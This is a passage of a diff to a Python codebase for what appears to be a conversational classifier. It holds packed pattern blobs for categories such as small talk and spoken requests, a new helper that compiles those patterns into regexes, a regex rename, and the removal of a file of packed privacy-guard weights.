2j$1S>B`E`+k566M&cn>``3hnc3&744Zm`vM`c<@-{(CuGl8#tL#4Ou}jELY_HhoD<E`Jbw(B$0V{nfc0}NvLI9&g@_7sFB&Qc)m&1uY;TZx5%R4F{+SPau;p)$W#jbTTt{F9?<n+GMhE-HBhhvOe9W6o?eMOGavO>;VZr#hc@+zmyLZcPLGYvW(l9Itvy#P^9L7l8Mr*u=X=pUd+4E}_&Qt?Tq0P&a=8U#B0%mif(sC*@Bth%*9Sq&L%OXI6q9LG8T$i^b$eZnnXE-o9|3HfA0yUV75}(AbLi>rT<&$eeYL@-Z0}M5GPNMwo`*jEk29#t_Kg_3&WzCu3e4v4_-eb`Gzn&#taIVa^Mmex-BAq;SdfL}c0w?^7F-3*P1bYY?C$IkES1l7-sJkAU6HIHu-4t5qZT(=4dA{`qKLkv%okn(i$7FeH?a7uz<xi510hnM6U)|Q<>a9qN5bzXme(V$9oIyL5`T`V(N#I1P^pos!d8M05_a2HBthE5#0+DY9Mp4~paj>nOPY&K8?OPK)0B}qsF<U28tfh4nnOh;sX%*=I5^Bt)EY+VEYnz4?Am!QNJ4tWgMy96*^i5nddmtDlQ;+pb309t8-?Mnf3_AJ+3=G(<6s=!#EjU6(-4oi_<TUw5c)GaGCd~-rgYr|5_JuK&VBg8)_j_#njyb+@ykI0R5W`QYA&RpwAt$3U(g>u?2~ak^LaH!0?-gdGGtIyT^CIt0<Kzr9B~0-h*^l(2kIKD0W<gSHGkj+8C;cm=1-wTajJ9&r7YZ<F*TB5$V~%Mds#1>s*-kK+}yg61*u-Tal+W@^spt~VSD;wM#=gt4=;Gij*fWDO<$%@(KPth)b1+cX9~~3rZo2$i&lhEpJl{_0O26c2&@K3+B)n{>HS@pg&Dp#g;BK{e$;qE=YV6!D8!`pUkAiJlw=H3)tj2azTM#HXoOfTk2QvQz61%239I-;jd1B%9y@g~t4*kEm5#SRUH%Wg69w~9SvXT`fIr`4p`T1hFBP?RVFa|q?gJZy7IzB2!U9B#t(y@nH-c<8suHxz_$0=rLeg9?nB_~>J-O+CFR2AniLKrm5P12Y5`Tr_wcd|I9uhqgPb_-wqztn6O7nM^424Ga-;}AMy$x6CRx{a_3SO-NbuqeH;2Xzhb5G%SBBF919gH5Iy*^6R2mV&4bGp-qXv~%Gd#Cv5XBqs*i0`^+6YgzU(5S>EwKsPE;fo;p+#8`If$}I-L<tag11RXA(K_>ANl$IV;oIjK^WQ-%fR9z{19@tJz78Xf{9p3TMz-Gv6#*sfs%B70npdq8uK${@!@{2}{VFOb88r92dm!0U7asF=eV#FkCc-!i^MCA4(2$oOfa4_O8eMo0yKSw>sccAW2h)$IO;3gZM?Q)NVuC^WM3mS*>b>bzonY#x5MKg<8ZSEf_B84%G+}u5|M?4QJO").decode(),
   'small_talk': unpacked("T>t<81poj4|NsC0{{Rt)2WUC*Li_V$At@d{R(BL3a6&l5l$+;2jN~sn<5>p2zr#c+vQB<B?^_^d_4R3z^>;yV62+Qm!M`98hArgu`Wc4Z;nTf@(3aM(IAGgUT%x2U5$+;XqygxP%l!Y-d(jw2WZjofGw8J~gruL$R4?zNWSK?0DeZAQtya*|DE=oX&$|N2k}xNF;{tv7u*;G8-8hQ-wUz)e>=1Q2QKD-ujxEAuM{X^kT7e;B$_M;m;gi_I*8}Q_CHF201Sz4xa6ntaG2xD<hXs}pT}>k}lu_r;Iz~vy4JC?N&g+2fML)h&CISB?dpNf_3|De+p3R;8ZYd45oJQCY_@gjV>A>~=-zQiB0pk`12(u}Se%;g999&G)=pH%v=Gde8JJ@RaM|K#l#GTFA;gRubMc=>gZ%A|6idI6!NesqWhj+*C)BP^?a8=dws8lIGl|`L17Ne@oufm88V|`hb<^vN<`BFvlr}#rT6ajS>#cRf#X2|Xb=9TUj(8%xhm+Yz+1;tiI?1IYQ2;#iX)|K3N9j!^G$EU`p!^Y=I_mHs~iaU$3xt)yU7`{sD7AYNs`jMLAj#?@WS`PbRC`+5@G2A0e9U(lowB*PiiAOg#f*Rass-7IF5dI)O%KpmPeY}@B4|$d6DhFA~bYTJ>j+?sr_+ZCA7e4PqdZRait+~LrSwXi%L$?vR!DO&uvHBMcEM-)~suoZ#PZnr$j;j{`go`ghy-`oN;BYLAxl&%Z^&)(iY(ep*4`(0gN!ry0ViCFqYr|0cR7g{~+qH=+N_<{ZKDj**V!tb$V6`uJ(YtW(Xk<1x|Mym{NB").decode(),
   'speaking_of_self': unpacked("T>t<81poj4|NsC0{{Rt)2FJm^>Q#)t;WYEk)UmHHG}rW50#XLS^>Y}Wm4?p$5uiBQ_(-D7X@Y_YhclNHS!b1JCxy!%#Fmy>%~o(OUeg@{kVksTeOXn07dD5!5Moo3_w20tA@zNo%F(>iD#6Qe+WS={R)XWPNGgp2#1@)^74!628S!<nH~xnittrFR*y@qs*<U>W3IcyH78X;nNtfCq7$ERTnI|jTHOeu&Z{U3$6!YmhT#aV_zU7dlYE{mZm`(FcoCUvQ=TJ)%Gamy|=3;+7q|3m$uH<*v`0<#Y%{%pX&pw!F40F2#=%AiQL2*twDFoUl8@iWVD<oQkBQE8_@kNOwf^MfWpB4$np-XdZpRk%0jN?E3^$jzHl4??9GcLI6&SvH0CyTLx^xg(*-3K^)%AEU0O$gtOCvTBmFp@g}EgsVBU_x5K7uiEH%7h_!^c2dHxwN|&&V?Ht=jV@>S+ukixcg8CInaF}mW0dT;wfU&MEanrMTC@6-!{up9<u-^gZFu5fVR|w2J)Fom@dZ_xi!<Y#O6Pe04r8s*3o#bnCf(jZ{|p47q+Te-C@HRr#9wF-YNJtn2rgh+H-weFxO^$(SjubW`c8tN<l6-`S_oX;5tlg1`AZ}TT`j=NNgnT^fgejJWYq<Vrbw<;U<tH6mbCz4<a-9eZ!>w6mO(|CZg@A_tUiBB<~5C7$pb<BiqAuln~N_I=}V;$a<DRPG$+rYr{`qbgA{3Qq`gV%i2iTQ#V*qC|1wILNUe%?fPhQ=&8l;AQFaUSs>ioc$9pE@zdq|_gdF5x*-<(^Kt5)8;~UJq8b^}MP;+<LN~AFZo0<^_GzIjl!2Ddk~7_}6y7OHhds>II|BEpYNch>)EKjJ1VH{JlwpSl5xQ4kCIHY}$K<g76bN^pDpREFp&c$_J{SfY-kEx48^(bp=s~1Md=}v>$0u%gGCHi@70{Go66@=|zyA2CCI").decode(),
   'spoken_requests': unpacked("T>t<81poj4|NsC0{{Si)2%-a4zwDkifQdr$pH%%kJbIGs-^#<l`kqYDLXZ*=khfAapS#ITr?iNA!ljUW*^IQB7@bbKR4ixZ#vQ;=4#1xu<<DtqoHb&D2I{Gse46q^@0rwK**5c+Z27VG__Dx{j~>_Pi!9>Nz_Vxe5z+`Aj~NlWSrfgOy_YH-){}X9?t@G{fLr=NOWR^aedfjxT>9D8QYPkLCU%9+wDj$dqf;jBXEj)egSHVD{#Hdb`d+qM7oE+7A{w|DC@)`JtH%P-d*|HTy^x#OQ<C3Ej=V6C$tRjMV&0_Qrap`bUPxJsx?AK$*PuBPQ0=`ZOcuXen@mQB>GbS5r2I#W+r)G0>>S|&OMHpI@d;msbo9Q^b)NUyBO~ut?pZBdyg2C-MTNSp7%2rd=cJ6BXXIj;E05;ex<PvzN=6V?khsyt@zgaX^+5~jYEG-HNMz+}Hh$^1CweWhLmQTn1^?zg<c6yUM@I~?XIQH7>kLYNsE_Xlh&zzkSWc)vj_hzIEvTG)D944nAn<<x*hPDe?1|Rllf_l}-Wc!%PM54juML_?M%_vUja(hE5u}02S_^Ind8_nzWCSmBgtGt}{txFv%Lo%EMAPa~t%ux<1T<iXszZC)FRr2V&S^^lYFM*yYUW`P?D5~II`0i^`!@+PGQ!VI){hO8A(0yurzTMb#;)xz|Fd`6&HPbYwO=LkZS$LskTJb2iWC(`)I+;IV>ji^nq29_zSuw0|BjQ55Z0)5w!7tk2zro`m3TzrcMAe4#Y(a94(lfeO$dPMc2gBvH^0OT(jY9md$)qcR2G+}BNOqmfxlaIo6@ax8MJ9jg9ecST}z$1H$Ik(Svc;Md2Q#wA#|Ojd0~th1lo?p@e_jCf<dT1!1TESpTe(^!AfqDjy{Bm#;;T*BxF_p2nDT3-}T?x=(tQH>@^Q`<;Bo05$gOHLi~+#1|26mnZVI-VMA6jIm^h1ySkO!RIm?NhVn}$(<w-&=tL%0E)SR8Fob#gF>!TP3t_qfX<yy_e^dHkBsuYxQm(`PrVJe%KR>H0EP+u669uOJqV&MojcJec6$F;DhOvhH-pEZOG$RAF9QckZl>>UHn##P5xbLS1X_CMr*-#ZQB(`mCZ1VLR)Nn1W5jezxx>D)}rv7v;l;gXF*#1vi>NPN_e_4j44n47P4yQ`Y8=Ckz&%GSLL_f~D#30SN847mR$i<9Me3Joz6<D53;!N{Zw|H6AKwVFO1{EWW#rDarb{VT};5))NzJ_Q&TD^$hlBLJ3`IUj`gsAO_ZM(B{AaDaNC4kAKT|cF{>9;k*oAX*8c<kJSUc&a~vt{pX1flLyyZ-7UTwJ?c-wRqc@v*qIF|7b>&{}sv8V5DJW=!5J5f754{!~OJL0uek5){=L9ShVC4NlSv6o&oE%+r9AtMKdCg3|8Z+1fky12lrO+G8i25&8G~v&w_^{}Z;m5<b{8BEhNmyQsg{yC{s3B12j7K)CExhMfN9v8ze%I1OP6N9qsviJ~827Y)|xC#}}Sz>>pjj`=_-E`{fiANFPh(d1{_Gaaahxwn@uKO5*f#YRrEmzb@qp37F=PJ-#s3wv)9RtU;pRRQ@+LQVwyrh09N3qAVl6t9@y&!)zQPi<{e9UDy*aRxx5tJz+BVdFG_DzPPh%H)eo%}smHWK{gW47XfbST4z|XSXn^D2zqD(bv9Q^8#Z1H5J=$f)CF@3)_8Jd$;MM(dq>;s-YKPvK)#DMmK}BVC!o<s=TMQ_K>z@zRiDmrfUFr_|$>+r&{>nUgn4#O65H;Gi;UJDE<s($2bDVPp^yd3{aXxFU)rqD?|3KTS$s9`W|Cs0+&X2vbT3si$uDfYCdZL(Sxs|Jbwm!4=6_(0+%xkRx^7q)&$hahZv9tQvMyP%Y+D}(tv2i-_0Eel^NCsO(VN;Gf~NZGtiVpSRr?Gi>kAmH9>uzlMdJ@7)W?sfuptu&roSJ@&h*A{PWQ{2tQ_K?LKa|2=R!%2!!G+2cripYWO=?Ajq=Q_1p<W!(}o0&Y*B4{Nqdf5!6}XS)dkrsK;JPSxRaF#KSJ9<!Gerx0~flq@qCS+XCRYq}fJlyOsyf7U#&!(~)}B2vk6|hcI8)@?DH>m<?MDss+Zn#p1y+3ofVfb0@kh+Iu@bT%@Hq(73=j)1@F%fBmf{u?Vw{zYc@$UU#)S?x0*-z-10z4qDIzKD;W*dQS@rim;pTl~|gZ7Jg`hF69msZ7ynSDmgH})494vtDqQzD(!X7b7Qf<Nv}vI?ylH9VAr^>Ga%s6=Z>v+iQY+W`FlYM=Cq$yao*tEd?aPCSOeI7pj1Y|PKFPYi3oc^4b{E~neMqK2{ID&By}6|`?RQit+3r7g?Y0(2SX$2Jt|$&p@0M=GEB+zFQsiXRq<{rt$2&dp{e5cG64FVDBo=;w%G}EgDs7~kmIVMK%U-V#5Y2~V{GS`gV%Ja*hvPBs!#FY-buD?-9<GT=1eoS^fJk;Q0OmKxy4M5R8)j1eu{QoW=dt8O(r+|oY`FYR|Ouh`Nq?|t*tJ{Zlw3Mmu=8TN?=>~h28khRB7|0E!WC`d0lB7CP$KC=FzRMRKbjU9F2C6-xN9_7Tg(o+(u=6j*5vw(ER?YTlO-;4e!lbxT@G-%E)<Fnq|L1sFgEE3ocqRXUP)JadzxO$5NQ&!GUa8QPFF4#A<+*q%#TdmZ^~9cCGZF3DAY>B!~@S(9<AEnRk;~HsJyvHLyVp?2|DyvuJ_29S?P(iS`4WJjBGOGm~w}H$Zq$iFg9thSsfHYX6qPP%#@iaEzdInwmadO6qSzsS@eX1Rw(_7fM0kg$dm}-oN;mmqw?ba|4@c_rYL$6ViT3-Eo}IOKwJ+t=>m$8X~yNJXsX}x8|cFW-ZH?oEa%he&G5?e`!YssUs(6{QTg^Mh?N^$3JHlESU^M-Qn`m6iG0fSv<K$A4U)_vm$p-XP#Wf#^{vuc@w+VctgzqfjkleGsPe&ob~mORL-iHE(Lwy#s})p=uY4j7L)WQ)7ZPi9P>mQn+{n*QsJ)rPC$CXIYA#k(~L5Eb(M+l@7(vBw^Bl@aRJs+f)u&7O{=~a{hC31Qp_#^14<W$JJIp=+Yfls=4PJzh4TsY(3l@A@{lung|T)F!KcpqAq^qUh|=irHazyY`$^%b<i|I55LU{+c`2c`Yhz6r4wRoUH3*9~T#@*$MDMsds1lmF+<rvFwuHYqsj{>d;@$5HOAp6+g&jo<6`AKRHE#Sq;}@>g$_NLUrb?mm@Y}2$f90+)E*$s(?%L0jH{DT)dyGo;l+k)JelKv{d>3~W-?bOm1TL6X(f(3r5Jo$X@R@LmEva6ai`EeiZY)bP53qtiCKrehU9kLOGFC&*?iCnA>f`Ae_{cdAFR>ux3SxNWLQ5qfAl#nxi_7ck8f!+XkPSt!e<PSMRPCJy@@u4@KXh<~1t7mEev>Va5V3D^%l;9@=(Hx>pVfH?e0-t2sTJi66Kfcs9B+M8xCX(U`i~mF**%F@++UgFDY=?3voJy6n{An5kT(;-AtIkm#zz2}m22F9YF2F1w5DS)30PX`B~PW+PBT6L^~;}3G10s;r6MMW+yT4A1B&@7dL)1Q9jqr!pmj(;n^T?STM9;TpOtZA$TXXYj8<4^>^Me6ipPu=IUt99p|2#f`YlWBf+G-OVNWx!x<$2!N%t{h+VYe#Vi2k|kcY!6HbcwTE9#u3;!afGsV%0nGbbWeH-oQ(;6`ID*u5HLsSpLphR6~fOu3Xlvij_Gl*_N+XaRrGJ}){aPqDReiW&A0TlM*Wf|Kep8*0i_9&vJ3>&0S8?FY~R2$Dl?=yAJ4wL8Nz>{~}jf9_EIH<sp%{Md+M_myv2K5wEZWpuKn8AV`D!tE>m^Nigx7MOeS&UeWmQZG@N1TuJex$=}5vhESZ<)ho^hy#z6G(g6{-Z^^uYRc+m0B$E|=y#>~s7k%4BJ{S2CZb-z@>A(22pQ4wEwL&raq3mqP)}iH#=!dbU9Fh6(zYakXm}bA)*hvw|3XR$N4~27PW@2LM)Q3pPpNwQp1LrhRp$sfcZ#7r31jmf3Z{xUb|6aLP-)B4<0F}CUw;=;B*MB^NlXYjPL4ILyr-7T7iBE55{r?N>2jTFyBeE66|r#-vx2aV2K%li4kq^@W``y+kO_rH*MA$UZ^U;%oVtWA90?|w-R?L=IlMT6R*MROwhA(A|Np<#NFt@PH$Wuv1&wK)P-c<T0Z;YlM8>Og2+<c*eaN#&O}X^2fcXYMn=!9G=k)hynA&c-iAN!Jnm@aa;+nj!i4ZhUd@Pf1a7p}cIuvs1HR2&8z}DAiPTa2tid0A~o%UTDdJI+fd>0F_LTH|nq^~p?9flx95YE|jFLligyb>B{{nrs5ACdw9sKgU0{zrHM&rWXne?={tFV*A9x?tE_mp@(Zw;5P);pm2OEY%Q9+=qr-d|dvYBOTzq<g^5dNx**PU^*Y_Agq2f<R5*W|GgtpK9W|%i=WA?h~~2`$^&PUMQn;Q%zlb55Mq+8Wid%<>AOkMYB{M5rAD#Y!|-$>A<b()tXn`*@MkN_MlUT9!@W;kiwtN0Q?|;mF-*_q%DKYW7^4B*&KYS%0r3^T21P-`V4c(#iFvIdj8W=aH$EfT2PzE3ls+6lOsQYc-M5kSEe93!A3DF~+#O-M0mfT7rFIs0JKTPYi9e!V%q*ak4n#}toqtLk-v0s@w7gyn;Cqq(<EUMlaOQbxB1YA6ksnKwM#jKA>^#8fE$fkxB+x<p^3J~RK61K78;g%J`ZM2*hbpo9#K&wO4k|7D0k{jES5rAMor#2Hh2@UeTO=Hdj_4ey?5h?KiL|#F_TI#QHyvdls5{>8kjs8M0z0C?C1)ziI`Gyc$-s=p8P!Sgf}R1kF!$=-H|>(C=_iV~==K~S`aaCc>`PIR*b+O{4TsPjts`tPG~`p=#&b;nyh<w<JQhME$rtG7=OIkM;S1JDGD8EdzEj~Lzh%cm{fJ$aV4_2XffcAUwD02`UE@gsS@sWVIRGe4ZN!r((TI_7+AfE4L4r@~q#DMMf&|zIw^z1^iaC>m_~b5ww|Ad22uHizch%(%w)6dS@wLKi0yu`^|H)RcN2P9c;tW!T<5uIKo{#O&1r|1kEiMQujz-I5yVMtM)?eMyz`@xqw~7a{cp@#4-OLJt(Z(T_leGtm9)R^q(^oduz3oGg{<)inRl6fMI+>K8q1y_u`S3BVCyHv1&^_j^e#a#*3}UhQS#7h|oDTqiQf*PbXIIBu&+%X;FgS>wElB-4BL6dhgBzuYg{{xXZPGxJ<Cqzv{4!mczZ>{@?{&-cDN((nqK|)P>_GteZx+%Yw)I;yDz$l*YMF{gcX4(GpPoJDdy($JU0a!*krgRf-Tqt8NHAx&036S1y;dBYf1nA*d#;1^^yEbluieqr<fPa+VzTwYcFg8o6d0^tFSp+y6}W_)ksMpp2*aI%WR+hjV+QwGMM-d#fOI6sB9PbjOpt=_F6{r$-7}OdN{($IzgOsIqef(G8#*Dbc8|a7)N|jjU=rh23G$uD`hmA1_uM2V^-?j+9A!xzF}GBT`m0}0Xmv3xTr;=<KId_8Ko&&<066ZNBZ%g1nc{Q=mjc2K@}zBg6LZW&Xa}O_LuMNA>KWhB<!<}1*Z9o(=!Fc`zfXxnkR9B+bvSkc1m7KxD>$efwJxjjCWyqCvMDDXK1tW7`6<Av;rT5kS&}s9R@DIBCCtMD;m|PbL2M@AG~#&AG#Qjz?zKHu0NGWxf7z7jFQIbK(MP$7GL^Whrh65AS&jV-j2G+At{yAC$`QQ?$FuB9STtq{czGY;u+b9A@o;5u>E6qALgU12|2l}y6!?CZrhzp~(N-Q?%Z`M7Tw6~5>MRC?Hu@G@`rIo+VQZJXmfAV6@G7^6@#TN47+BGtk8=>OH$S+}Thn29(Hz4$5koN~yY4hsHG72HuqYvX?gYV{yOCA)wn4E1*Z>QZX08$=#vFvIGAgCdXZTvKmj-oD*2`4|nYTKn9X}^=rufzB2=xN(B&+yWWMY|*>NqXwP0Klx^u8|uOzGYy{jy*&P8GRIM&A|!qnwR_*YW|ls{*)n(~ocaK|s4N-6XkkHw;f@oJCIxHoDg;QmMCZGZi&JUz>hTpAD{(0o!Yf&V_&NP5E)ueO+592t(+7(k0#Hj09SA1nyb2r)!sxu$>mx14x<2(i_k{qu^9GTkqR-KjnL!IEWuCwzQ+VUobM$!GF02v|Y{mB?kRE^+r7;(Xhc2H{?VZt!m2uPPOgW*$lb>Gga$o!zTqQXi82H%Q-p1CHDF7Eh0q+PHWu+<{}I$5=tN>Y?9YL5)#gaEyRR4PZOztAnBJQ+8y}~HL0X>Kjbztf42!ohct$w`POflKuGxv)x1D@|F`nW=s_xb5?k?ICy6&5ietYiz0dEAWV63-e$-bcF`nRJ@|yqb;54-crykvG@NqGMmyA>EsA55}3Z&vk2a`jE937$-XkSYKx1i?}<2m*G1DwRQTG&khK4_`fS+rdWImbkGwi|FzT38drvomC?`u6x{gyvow)796%?Z@0*OO&__uHM{Rd+CcW4&3Ksl)3iloa5R7F9{UMQn5n-^NdMA!wC&=cWMg|4=VK2pzs^Ur&8VPb&{WnNqLeE1NuI#d-nmZeIXV&^dw-x-Qk+()LB9F=ZKD^^$k7nP7*HLw@(xA2t7P3KvIU<0q2rgJQoII28t^<7HMLf{p4!Qe0mbWO-n(&VbWZrPS=umEznIbLLO1<BGJW{B3qZcW%04Z^sj8Z?-NOfEZ{!a%NO0uNdh1|y^(18^Z2+IE#n706K(hK5d$@og*oGY%t^KRe$%(-Sq_hC+f)Um4P&%MY!3m{zFGOtSAT^w2z7dDAOqmMW?9cT1l-Q&&s(9=7^uLE!Am&phg-*DFq93vAwg3dwp+MY;W&zxjY|!T``#MnjE_3MWos@VW7jQ$qUr6hrx<i&MuQS{45H}7>=M$aJS|~9yJN%u+W6|z").decode(),
@@ -1491,6 +1492,14 @@ def pattern_table(name: str) -> dict[str, list[str]]:
       line for line in patterns.split("\n") if not line.startswith("# ")
     ]
   return table
+
+
+def compiled_patterns(name: str) -> dict[str, re.Pattern[str]]:
+  return {
+    title: re.compile("|".join(patterns))
+    for title, patterns in pattern_table(name).items()
+    if not title.isupper()
+  }
 
 
 # ---- src/adaptive/host/memory_rows.py ----
@@ -1757,7 +1766,7 @@ _LONGEST_FIGURE = 40
 _HALF = re.compile(r"(?::\d\d)? ?([ap])\.? ?m\b", re.I)
 _THOUSANDS = re.compile(r" ?k\b", re.I)
 _NEXT_WORD = re.compile(r"[ -]([^\W\d_]+)")
-_WORD = re.compile(r"[^\W\d_]+")
+_WORD__figures = re.compile(r"[^\W\d_]+")
 _HALF_DAY = 12
 _AFTERNOON = "p"
 _LATEST_HOUR = 24
@@ -1916,7 +1925,7 @@ class SaidFigures:
     return frozenset(self.halves)
 
   def lacking(self, sentence: str) -> list[Figure]:
-    words = frozenset(_WORD.findall(sentence.casefold()))
+    words = frozenset(_WORD__figures.findall(sentence.casefold()))
     return [
       figure
       for figure in figures(sentence)
@@ -3040,13 +3049,6 @@ class OncePerMessage:
     return NOT_KNOWN
 
 
-# ---- src/adaptive/privacy/guard_weights.py ----
-
-GUARD_SCALE = 2.38922
-GUARD_BIAS = 1.84327
-PACKED_GUARD_WEIGHTS = "{Wp48S^xk9=GL@E0stWa8~^|S5YJf5;s5_V3ta#JKfxJ6c%Q6p3)KZTf6LLL<(A+-IMFM66obGM2GyRw#b$nivyWYO#{X=RvCX{CpD85z4E`WPiA9Wm<MN;Ysj)_yD+gNt`Pb*!ujRZ7KprpHQw+pE|7Yxz-M$TON)E$Ul@M}WPvWrngUu@F*0*f(W)x&_S0YH<95!#L>G*0=G8__maxiVTgv~<61R3_}Pf%Z`N@c$)4KijwX~P8cgWo*GcAf?VLuquHf&RbB;OEQ$<omvFf$Wp+SjjS>roG>R9^{kDpfl>~6$QOH%{(y07I~wq9JZ|HzT_yKVq@?1tu>pyVs<%v=IAUxFtv7E>Ru)__hW)u`z7t?V1HZmVd1+#hy*<404tKAHyx3^(?lblSLiSvO1*SvW@5w9Q{y|Q>(fefH#NEvw=J51%+JwUW;s{mxAzmchzGM!(CMUC*g_<HNnA5B?#E`j#vG2LR>#vS_6k7a;Nv6l@~K-8U==Tn;6f&u;{a2$)6A!7u~6gIkZ;?D{1kM76N<<`Nu_BSv|?r+_V(5qW!ZXR8)l^jOg}gwf-u7QT;_#Q9ZTTSU>&n%tMVuGS;J!X2O^T>7EMSGQ22DQ1(sUBi_ab6ne+`nM%eHEdGF&l53~Hf(hN(ThR{90pLLYTIb0sp*&lXi8=|cS<!A#0JqZ|rEvR|%<NC;hg~dr%yih=vZfruNXqUAP5pb4RUo7LQ_z7g4o}I<Fq9`oLc%huqr$zQ9=*sn3_NQSX*=-Me{$&=GmpM%+_PI;;pVD61I!Fx)jY{+I61FSV&DJfbO>PTxejgd})9GRr3kvJ>ECt56YHN)<l=ff2deVy&I?NID@Z75vGFVmYCBklLE~1b>5!FAdzr9wZIr)+DLzb`n&!TtB2VYJ%w>N{uf*N2~GysJj05t&urhjdXPTb!gMj9Sj>?p)aHEvCbH@cz+p7$kRf?=cyF;2DY*X|h+@{wIRkg9l6erzc-M*k;rk>azP%j2Y;Cc=y$CwjNi=-}2mSaU@{y*w+URE_Rlak`C{^a^8&J7aR&V*m9XR)8=^z&H{dH~IDv?<68i9cLJxjqMV<SU0L#1acHJwqFdrA7=a3%DGG91O;lAX@Jqn)@)eM7~Gj;5e;tgj4?SY9w~hT#D2<s@#oxO$raQ@Mq`CyR^#0aI<r+~9Jm`8D54Y#t9xUvs3@K9O#_B3@)361N~5f}_g>_IBloU3F4_p8$Nw|GAx8fGjmEn4@Abzvm&q3fXeXLhL_MkQ^^UlnZp}AWqX+L$K}T#VZRRwCxSTC#KUEL`sETY4zNEz0H3M?K2Grs|2g#OC87ePFQBFI`i%v+(dm?mJ`^wmw5bgGA7+};x%4OtOj0xHtId#<uy<_em%(@0o4-l?%`qnc5@{~AR(!P2RII$>RAC0qhH-NK2&vd0;gZ|9@IRW8lNpJ(ah8X-fOSF3CRtx1LOD<W#>cG}3vrd4aG^faz!%y5wA@2@FG5$0b+l<U`v+yxd%Rn=Oi4Seh?X8-4xKt1QfOy|}ZITe=QvxZ<TGM~O>n7dTD|Xm;x4Q{%dkXO}Znt*XY}QBFdi%;JhsO^;<PHZAkEs_2xu^!n&W_as=i}02;kyg#ZFLZn7<a>qq$$@B-?Z?7MT=^MVFnqM^F#VMwC4pQuPqqTq|gc{G!82MRl^$YR&%A)b`1_;29ZTX4^0Otzm(^!btTi1V7%%N%WOSE^UXGTknsH0*sQh-GaJ1o{H;HD0a_?PZum!{m=_ECXEz7gB<(*rhy7zrQ}Z5n4Gy|)iR-kI=oh{ykCnH+F2UmT5g@iWu|lJ^+w~2sBk=E(ygX3r^KGLld~_ws|8<tu$3<?XVTPr5k#7KntLe-v9#UVZR*U=p7+mULX-*qZnBEUte9#+R9hd3Pc*xw!!drdA)s!`|e?7IAyw&0VBbB~G2gJ0oX0jNJ?g5GCL1x`hgox!#WdepdY(X~F(^VawOxcfp?<pny1zq2wHL09EAQaBZ`%urFG|inR6!~Wsre&}>5w^rEgc6O)u_V+_{RDE0_SVotEM_Ag<%uSTCBio*C!2XMsCwb*vcpK1Jirk?0)FZ`PX!nx|IkGRdeS6zj(BmsFVoOP97b*3xAxz4Zwb<wSKFyza#ze)AsM9{y{FH3Bluz=1Sy`0Ho{^^E#^?yJohb9F4sNpANgs_4|jKkkJ_dP0<no=`1VI!W!mA8t%h%nwRXDVry82H5K?UJXja`X4h8YrXghblwun<hj@`6K3weoAKiF+g%E0u1_^NbsgycqlPzmK;wt#}bRbt98eT=^lNLu@>5HQx!sxB+T^c=f-986>2#5Xx6c@irKhAB*WATNCzhE&-`WnVYRuj49!xcXFs^-)gmrx&eCt-;C6-H}iFHQD=Xx^kTh^uf${_{(J1hV@{Px~N&iHD9`oGIsgVpvRY!?Oa3NX<cltC|=Y}Bjc4-epVMhQhuUbD)bK>^3Lb&Xl?EsfJ|BdHHoFmD0073vhab%<@G881|o`1)+kDNszXeXFI1>vt$IXCUI$9NS+~}1K*o>YjT~o*AwF#M+Uz+R!rPH>SivjbM76_Z+Xe_U46t~;&tK&U6E|9`Dvsmw;6WeNYIKdrZ_013vp&13Ut;`>83>iJ0bJ-nB~<jusZIk^$P-&T3t0=2q$qVn7GqtHk1ur|1wxizl&s+Agn3f}`%f$hnG}(jdr4Qtm;EbC%TceCYO6)`EX{KU+3}iKF_P_)1Kjl;)V(qDltbI!Zrky!uEum*ehLlsFe~Wn2b@zyER5rFN0*N^@mC;A|IY6eKe&aJi8r+uU?Mo@dT5|9bOU|@@tQ|57KJh>Qjt{R|CoM6$sjd{Y*}3@lbA_vx1O+wG?y72fi538TN6sLjTH@ea^mqYa+fL$aFYyBJm#-ikUwKgnX-In&;mI$EtSUUkO8kRZEKJSGclBAYpp3v=2j2lT0_=-A=nO==$`Y5SYL<2#S5>;AwJG-df@()`d+Q<mXXL)do<9uW#bU<Pi<Eq7*vR3Up**AbH;~HeeiaT<g?q_>y{9x;fTE*N9JzZ3K%UNKWdH76WbLPK_h<yaw_*+)e#oUh3^I#Az|~jEaX^}lHZk73Mbt}a_Mt26{`%syOb%5mIqhZUqPE+SvJIZVNj?d4Vk6Ew?>D<+d^c_Fl=&DnP#QkQ7LFGIt?uB6PO}_G~o0I2?l(qPScx~bDV!9aJ!ZE)7#ZJU3|XPZq&52q+zqPEHXI0{HXhlG&mu^?p78~hrde;b;PgM8g|u%et}`q5@9EXziCS-y7Yf$H3n2Rd+Jc}6oV4;uD!vmUOr5MnegF$kg}$s@PAyDfIcCIr%c~{<}$akI&%n|l>%v3ZWzK4gYuU`EZ4cnHDilqOBQQkd~DpX3If@f*GNSsZyJ99wHjiBf!7N{D*EqXS>f*_N3R*{ao+c~bbpDY(%qRn@qeXg^D@J4-S~H^xX$5at!ijpOg@{wKJw_b>-{hraX=GGTn{$TTQqM1JX~QOzj6ZqozRs`>Z!R#o^#YjN^EtR%&n#9!jDRR+-ryp#XBZv#lUd{C1c@aod14j)2VbLq6||^gpu7;DA;kcM@MJ9#Vg~9mb#Ek1b*xBKaK^Iq~sDl*4aDN8*|mpO48LxQs8l*$$MIG{Z(#fzp0Z}FhTp@rbZdp78P4m({}QkLpz0nM+;Y;+YY#lBnKwH3BI;y*H@LgOpj>Y_R9<hi)qPYKUsqO>mqbN$+YvMou<|>gR9lfQIp4A>;mE?-?5EBDBm`V-yz|<47y|YbmVMJgRvMHt@gcb5szjkuIUjb6@>UtaW*du_2j2TF2wQY0)Eg&Q$4bDMmXC5xvk@7@O;eVW;44{tE@OKmy<Ri!&%h>Dlmve^>$t%VP=8~_U)O*QMI5+zg#F#sh|q>&ib?1SAef0M<}EecSk*w2gkQaU{5%J7qhGsUkD!-5B^v4^&~z(e5<<D3{8SINETa#>`oB5G4q3NEyDnEhkYc>Lt;qpS)0N@;`%-J))gRsR44sLx4Yl1NBforldg3+UMgx(Nx*obDD%yk0xmQio63p2g+jV(f1?#=!@m3#Ze#4~EZ4Z3{qFDnn))3+=5WA9HN^6B4*gkM5G2M0sq(;l1XLY(_v^iT)IaUbSAQYPGzCYnoqN<ic2!qsES~;InREGgzuN;p5&;?yu{yNgE+6EN6dLrF>IpI?VtOOW;Ms9i6tLS7xu`M#7o8nxdkjC4@L{?{JUSrf=350r{D;lPSn1TUbtNiAd0>feS=L57?FAUssxfP8REZ%ay0-^NNG9v@pOmtgyq-Cmlp|75P|l^j06RptU#D&*1m9>%*3~iz;E_bqkO{I?nR|LBnfFfW0tYX<=E0eZY!rQ&TdK-jLHoB0S)RECkZ@jyNU{YyreKxfQWCbjD7@HCD2z(Ks!ICIjFH7O1BIO_r-EX7d#w(n